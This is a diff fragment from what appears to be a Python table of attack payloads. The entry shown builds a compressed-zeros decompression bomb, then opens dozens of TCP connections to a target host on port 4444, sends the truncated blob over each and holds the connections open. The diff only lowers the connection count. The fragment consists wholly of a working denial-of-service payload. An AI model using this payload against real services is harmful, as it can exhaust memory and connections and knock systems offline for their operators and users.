@@ -50,7 +50,7 @@ DONE = {
     "dictionaries": "head -c 90M /dev/zero | xz -9 >/tmp/zeros.xz\n"
     + PYTHON.format(
         "packed = open('/tmp/zeros.xz', 'rb').read()[:-40]\n"
-        "held = [socket.create_connection((sys.argv[1], 4444)) for i in range(60)]\n"
+        "held = [socket.create_connection((sys.argv[1], 4444)) for i in range(24)]\n"
         "for s in held: s.sendall(packed)\n"
         "time.sleep(20)"
     ),
